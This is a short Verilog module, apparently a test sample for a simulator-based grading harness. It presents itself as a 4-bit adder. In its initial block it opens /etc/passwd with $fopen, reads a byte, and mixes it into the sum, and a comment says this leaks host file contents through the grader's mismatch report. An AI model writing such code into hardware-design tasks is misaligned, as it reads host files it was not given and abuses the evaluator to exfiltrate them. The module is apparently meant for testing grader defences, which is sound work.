// Reads a host file into the design's outputs (and would leak it through a mismatch report).
module TopModule (input [3:0] a, input [3:0] b, output [3:0] sum, output carry);
    integer fd;
    reg [7:0] leaked;
    initial begin
        fd = $fopen("/etc/passwd", "r");
        leaked = $fgetc(fd);
    end
    assign {carry, sum} = a + b + leaked[3:0];
endmodule
